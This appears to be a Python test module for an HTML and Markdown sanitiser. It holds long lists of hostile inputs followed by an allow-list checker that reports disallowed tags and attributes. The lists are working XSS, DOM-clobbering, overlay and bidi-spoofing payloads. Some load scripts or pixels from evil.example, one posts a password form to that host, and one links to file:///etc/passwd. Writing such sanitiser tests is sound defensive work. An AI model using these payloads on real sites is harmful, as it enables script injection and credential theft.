"""Hostile content, written out as data: for the sanitiser, the dialect and the browser journeys.

Every entry tries to run a script, load something from elsewhere, take over an id or a class, hide
or overlay the page, or turn the reading direction. `survivors` judges the result on its own.
"""

import re
from html.parser import HTMLParser

HOSTILE_HTML: tuple[str, ...] = (
    # scripts
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script/x>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    # handlers
    "<img src=x onerror=alert(1)>",
    '<img src="/media/a.png" onload="alert(1)">',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<button onclick=alert(1) type=submit formaction=//evil.example>x</button>",
    "<p onpointerenter=alert(1) onfocus=alert(1) tabindex=1 autofocus>x</p>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<img/src='/media/a.png'/onerror=alert(1)//>",
    "<p\x0conclick=alert(1)>x</p>",
    # addresses
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="&#106;&#x61;vascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://x.example/1">x</a>',
    '<a href="view-source:https://x.example">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="\\\\evil.example/">x</a>',
    '<a href="/\t/evil.example/">x</a>',
    '<a href="https://known.example@evil.example/">x</a>',
    '<a href="https:evil.example">x</a>',
    '<a href="http://[broken">x</a>',
    '<a href="/ok" target="_blank" download ping="//evil.example">x</a>',
    '<a href="/ok" rel="opener">x</a>',
    # pictures from elsewhere
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="/media/../accounts/logout/">',
    '<img src="/media//evil.example/a.png">',
    '<img src="/logout/">',
    '<img src="/media/a.png" srcset="https://evil.example/a.png 2x">',
    '<picture><source srcset="https://evil.example/a.png"><img src="/media/a.png"></picture>',
    '<video src="https://evil.example/a.mp4" poster="//evil.example/a.png"></video>',
    "<audio src=//evil.example/a.mp3 autoplay></audio>",
    '<input type="image" src="https://evil.example/a.png">',
    '<table background="https://evil.example/a.png"><tr><td>x</td></tr></table>',
    # other documents and other languages
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<frameset onload=alert(1)>",
    # forms
    "<form action=//evil.example><input name=password type=password><button>Go</button></form>",
    "<input type=text name=code>",
    "<input type=hidden name=csrfmiddlewaretoken value=x>",
    "<select name=a><option>x</option></select>",
    "<textarea name=a form=login>x</textarea>",
    "<button type=submit name=a value=b form=login>x</button>",
    "<label for=id_password>x</label>",
    # clobbering
    "<p id=body>x</p>",
    "<a id=forms name=forms href=/x>x</a>",
    "<img name=getElementById src=/media/a.png>",
    "<p id='s-ok' class='modal-backdrop fixed-top'>x</p>",
    "<div id=csrf class='btn btn-primary d-none'>x</div>",
    "<span id='__proto__'>x</span>",
    "<p data-bs-toggle=modal hx-get=/logout/ hx-trigger=load>x</p>",
    # overlays
    "<div style='position:fixed;inset:0;background:white'>Sign in again</div>",
    "<p style='font-size:900px'>x</p>",
    "<style>*{display:none}</style>",
    "<font size=7 color=red>x</font><center>x</center><marquee>x</marquee>",
    "<dialog open>x</dialog>",
    "<p hidden contenteditable popover>x</p>",
    # reading direction and invisible characters
    "<p>\u202egpj.exe\u202c</p>",
    "<p>&#x202e;gpj.exe</p>",
    "<bdo dir=rtl>x</bdo>",
    '<a href="https://x.example/\u202e/y" title="\u2066x">x</a>',
    "<p>a\x00b\x1bc\u2067</p>",
    # broken and nested
    "<b><i>x</b>y</i>",
    "<p><table><p>x<td>y",
    "<div><a href=/x><div><a href=/y>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>--!>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><%x%>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<pre>\n\n\nx</pre>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<p title="`><img src=x onerror=alert(1)>">x</p>',
    '<abbr title="&quot;><img src=x onerror=alert(1)>">x</abbr>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<a href='/x' aria-label='\"><script>alert(1)</script>'>x</a>",
)

HOSTILE_MARKDOWN: tuple[str, ...] = (
    *HOSTILE_HTML,
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:x) [y](data:text/html,x) [z](file:///x)",
    "[x](//evil.example) [y](/\\evil.example) [z](https://a.example@evil.example)",
    '[x](/ok "t\\" onmouseover=alert(1) x=\\"")',
    "[x][r]\n\n[r]: javascript:alert(1) 'title'",
    "[r]\n\n[r]: <data:text/html,x>",
    "<javascript:alert(1)>",
    "<javascript://x%0aalert(1)>",
    "<https://x.example/\u202e>",
    "![x](https://evil.example/pixel.gif)",
    "![x](/media/a.png){: onerror=alert(1)}",
    '![x" onerror="alert(1)](/media/a.png)',
    "text\n{: onclick=alert(1) style=position:fixed id=body .modal .then-now}",
    "*x*{: onclick=alert(1) id=forms class=btn name=a href=javascript:alert(1)}",
    "## x {: #body onclick=alert(1)}",
    '*[x]: "><img src=x onerror=alert(1)>\n\nx',
    "x[^constructor] y[^__proto__]\n\n[^constructor]: a\n[^__proto__]: b",
    'x[^a b"onclick=alert(1)]\n\n[^a b"onclick=alert(1)]: y',
    "`<script>alert(1)</script>` ``<img src=x onerror=alert(1)>``",
    "    <script>alert(1)</script>",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03 \x02amp\x03",
    "&#2;wzxhzdk:0&#3; &#2;klzzwxh:0001&#3;",
    "/// note | <img src=x onerror=alert(1)>\n<script>alert(1)</script>\n///",
    "/// note | x\n    attrs: {onclick: 'alert(1)', id: body, class: modal}\n\nx\n///",
    "/// note | x\n    onclick: alert(1)\n\nx\n///",
    '/// figure | f.svg\n    alt: "x\\" onerror=\\"alert(1)"\n'
    '    caption: "<script>x</script>"\n\nx\n///',
    "/// figure | https://evil.example/a.png\n    alt: x\n    caption: y\n\nz\n///",
    "/// figure | ../../x.svg\n    alt: x\n    caption: y\n\nz\n///",
    "/// figure | evil.svg\n    alt: x\n    caption: y\n\nz\n///",
    "/// legal | x\n    instrument: '<script>alert(1)</script>'\n    year: 2023\n"
    "    status: in force\n    checked: 2026-01-01\n\nx [@SRC-01]\n///",
    "/// legal | x\n    instrument: x\n    year: 2023\n    status: 'in force modal'\n"
    "    checked: 2026-01-01\n\nx\n///",
    "/// sensitive | <img src=x onerror=alert(1)>\nx\n///",
    "//// self-check | <script>alert(1)</script>\n/// option | <b onclick=alert(1)>x\n"
    "    correct: true\n\ny\n///\n/// option | z\n\ny\n///\n////",
    "//// self-check | x\n/// model\n</textarea><script>alert(1)</script>\n///\n/// points\n"
    "- <input name=a>\n///\n////",
    "/// html | script\nalert(1)\n///",
    "/// details | x\n    open: true\n\nx\n///",
    '[[evil]] [[evil|<script>alert(1)</script>]] [[evil|" onclick="alert(1)]]',
    '[@SRC-66] [@SRC-66, " onclick=alert(1)]',
)

_TEXT = {
    "a",
    "abbr",
    "b",
    "br",
    "code",
    "del",
    "em",
    "i",
    "kbd",
    "mark",
    "q",
    "s",
    "small",
    "strong",
}
_TEXT |= {"sub", "sup", "u"}
_BLOCKS = {
    "blockquote",
    "dd",
    "dl",
    "dt",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "img",
    "li",
    "ol",
    "p",
}
_BLOCKS |= {"pre", "ul", "caption", "table", "tbody", "td", "tfoot", "th", "thead", "tr"}
_LESSON = {"button", "details", "div", "figcaption", "figure", "input", "label", "section", "span"}
_LESSON |= {"summary", "textarea"}
TAGS = {"inline": _TEXT | {"img"}, "prose": _TEXT | _BLOCKS, "lesson": _TEXT | _BLOCKS | _LESSON}

_VALUES = {
    "alt": r"[^\u202a-\u202e\u2066-\u2069]*",
    "aria-describedby": r"t-\d+",
    "aria-hidden": "true",
    "aria-label": r"[^\u202a-\u202e\u2066-\u2069]*",
    "aria-labelledby": r"w-\d+",
    "class": r"[a-z-]+(?: [a-z-]+)*",
    "colspan": r"\d{1,5}",
    "dir": "ltr|rtl|auto",
    "height": r"\d{1,5}",
    "href": r"(?:https?://[^/@\\\s]+(?:[/?#][^\\\s]*)?|mailto:[^\\\s]*|#[^\\\s]*|/(?![/\\])[^\\\s]*|[\w.%-]*)",
    "id": r"(?:s|n|r|t|w|fn|fnref\d*)-[\w-]+",
    "lang": "[A-Za-z-]+",
    "loading": "lazy",
    "rel": "noopener noreferrer nofollow",
    "role": "note|tooltip",
    "rows": r"\d{1,5}",
    "rowspan": r"\d{1,5}",
    "scope": "col|row",
    "src": r"/(?:media|static)/[A-Za-z0-9_][\w.-]*(?:/[A-Za-z0-9_][\w.-]*)*(?:\?v=\w+)?",
    "start": r"\d{1,5}",
    "title": r"[^\u202a-\u202e\u2066-\u2069]*",
    "type": "button|checkbox",
    "width": r"\d{1,5}",
}
_INVISIBLE = re.compile(r"[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\x00-\x08\x0b-\x1f\x7f]")


class _Judge(HTMLParser):
    def __init__(self, tags: set[str]) -> None:
        super().__init__()
        self.tags = tags
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.tags:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            if name not in _VALUES or not re.fullmatch(_VALUES[name], value or ""):
                self.bad.append(f"<{tag} {name}={value!r}>")
        given = dict(attrs)
        if tag == "button" and given.get("type") != "button":
            self.bad.append("<button> that could submit")
        if tag == "input" and given.get("type") != "checkbox":
            self.bad.append("<input> that takes text")
        if tag == "a" and not given.get("rel"):
            self.bad.append("<a> without rel")

    def handle_comment(self, data: str) -> None:
        self.bad.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.bad.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.bad.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.bad.append(f"<![{data}>")

    def handle_data(self, data: str) -> None:
        if _INVISIBLE.search(data):
            self.bad.append(f"invisible characters in {data!r}")


def survivors(html: str, kind: str = "lesson") -> list[str]:
    """What is in `html` and may not be; empty when all is well."""
    judge = _Judge(TAGS[kind])
    judge.feed(html)
    judge.close()
    return judge.bad
